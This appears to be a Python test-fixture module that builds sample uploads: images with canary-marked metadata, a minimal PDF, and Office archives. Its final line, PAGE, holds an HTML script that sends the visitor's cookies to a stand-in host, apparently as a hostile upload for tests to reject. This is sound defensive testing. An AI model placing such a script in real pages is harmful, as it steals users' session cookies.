"""Files of every kind that is taken, and some that only seem to be."""

from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo

from PIL import ExifTags, Image
from PIL.ImageCms import ImageCmsProfile, createProfile

from core.media.file_types import DOCX, XLSX

SIDEWAYS = 6
ORIENTATION = ExifTags.Base.Orientation
PROFILE = ImageCmsProfile(createProfile("sRGB")).tobytes()


def picture(format: str = "PNG", size: tuple[int, int] = (40, 30), color: str = "teal") -> bytes:
    file = BytesIO()
    Image.new("RGB", size, color).save(file, format)
    return file.getvalue()


def sideways() -> bytes:
    """Return a photograph of 40 by 30 pixels, taken with the camera held on its side."""
    file, exif = BytesIO(), Image.Exif()
    exif[0x0112] = SIDEWAYS
    Image.new("RGB", (40, 30)).save(file, "JPEG", exif=exif)
    return file.getvalue()


def photograph(format: str = "JPEG") -> bytes:
    """Return a colourful photograph with all kinds of metadata. MPO has two images in one file."""
    exif = Image.Exif()
    exif[ORIENTATION], exif[ExifTags.Base.Make] = SIDEWAYS, "CANARY of the camera"
    exif.get_ifd(ExifTags.IFD.GPSInfo).update({1: "N", 2: (52.0, 1.0, 2.0)})
    more = {"append_images": [_noise()], "save_all": True} if format == "MPO" else {}
    words = {"xmp": b"<x>CANARY of the place</x>", "comment": b"CANARY in words"}
    file = BytesIO()
    _noise().save(file, format, exif=exif, icc_profile=PROFILE, **words, **more)
    iptc = b"Photoshop 3.0\x00CANARY of the town"
    start = b"\xff\xd8"
    rest = file.getvalue().removeprefix(start)
    return start + b"\xff\xed" + (len(iptc) + 2).to_bytes(2) + iptc + rest


def _noise() -> Image.Image:
    return Image.effect_noise((40, 30), 60).convert("RGB")


def pdf(catalog: bytes = b"") -> bytes:
    """Return a page, with more entries in the catalog."""
    return (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R" + catalog + b">>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n"
        b"trailer<</Root 1 0 R/Size 4>>\n%%EOF\n"
    )


def archive(**entries: str | bytes) -> bytes:
    """Without the time, or each worker would give its tests other names."""
    file = BytesIO()
    with ZipFile(file, "w", ZIP_DEFLATED) as open_:
        for name, content in entries.items():
            open_.writestr(ZipInfo(name), content, ZIP_DEFLATED)
    return file.getvalue()


def office(type: str = DOCX, **entries: str | bytes) -> bytes:
    """Return the part that declares the type of a .docx or .xlsx file."""
    types = f'<Types><Override PartName="/main.xml" ContentType="{type}.main+xml"/></Types>'
    return archive(**{"[Content_Types].xml": types, "main.xml": "<main/>"} | entries)


TEXT = "Grüße aus Köln, नमस्ते!\r\n\tDrei & mehr: 2 < 3.\n".encode()
TAKEN = {
    "image/png": picture("PNG"),
    "image/jpeg": picture("JPEG"),
    "image/webp": picture("WEBP"),
    "image/gif": picture("GIF"),
    "application/pdf": pdf(),
    "text/plain": TEXT,
    DOCX: office(DOCX),
    XLSX: office(XLSX),
}
PAGE = b"<!doctype html><script>fetch('//thief.example/'+document.cookie)</script>"
